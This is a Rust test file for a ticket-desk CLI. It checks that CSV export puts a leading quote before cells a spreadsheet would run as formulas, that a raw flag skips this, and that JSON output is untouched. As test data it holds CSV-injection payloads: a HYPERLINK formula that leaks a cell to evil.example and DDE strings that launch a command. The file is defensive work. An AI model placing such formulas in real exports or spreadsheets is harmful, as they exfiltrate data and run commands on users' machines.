//! Issue #16 item 11: CSV cells a spreadsheet would run as formulas get a leading
//! `'`; `--csv-raw` writes them as stored.

use std::path::Path;

use crate::common::Env;

const SUBJECT: &str = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Open invoice")"#;
const NAME: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const COLUMNS: &str = "number,subject,requester_name,requester_phone,field.cost,description";

/// A ticket from `03-csv-formulas.eml`, with a phone number and a negative cost.
fn desk() -> Env {
    let env = Env::new();
    let mail = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data/hostile/terminal/03-csv-formulas.eml");
    env.deliver(&std::fs::read_to_string(mail).unwrap());
    assert_eq!(env.list(&[]), [1], "03 makes a ticket");
    env.ok(&[
        "ticket",
        "edit",
        "1",
        "--requester-phone",
        "+1 555 0100",
        "--field",
        "cost=-5",
    ]);
    env
}

/// The CSV's records under its header, parsed.
fn rows(csv: &str) -> Vec<Vec<String>> {
    csv::Reader::from_reader(csv.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

#[test]
fn formula_cells_start_with_a_quote() {
    let env = desk();
    let out = env.ok(&["ticket", "list", "--format", "csv", "--columns", COLUMNS]);
    assert_eq!(
        rows(&out)[0],
        [
            "1".to_string(),
            format!("'{SUBJECT}"),
            format!("'{NAME}"),
            "'+1 555 0100".to_string(),
            // A plain number is read as a number, never run: it stays as it is.
            "-5".to_string(),
            "'-2+3+cmd|' /C calc'!A0\n".to_string(),
        ]
    );
    let shown = env.ok(&["ticket", "show", "1", "--format", "csv"]);
    assert!(shown.contains(&format!("'{NAME}")), "{shown}");
}

#[test]
fn csv_raw_writes_the_cells_as_stored() {
    let env = desk();
    let out = env.ok(&[
        "ticket",
        "list",
        "--format",
        "csv",
        "--csv-raw",
        "--columns",
        COLUMNS,
    ]);
    assert_eq!(
        rows(&out)[0],
        [
            "1",
            SUBJECT,
            NAME,
            "+1 555 0100",
            "-5",
            "-2+3+cmd|' /C calc'!A0\n"
        ]
    );
}

#[test]
fn json_is_not_touched() {
    let env = desk();
    let t = &env.json(&["ticket", "list"])[0];
    assert_eq!(t["subject"], SUBJECT);
    assert_eq!(t["requester"]["name"], NAME);
}
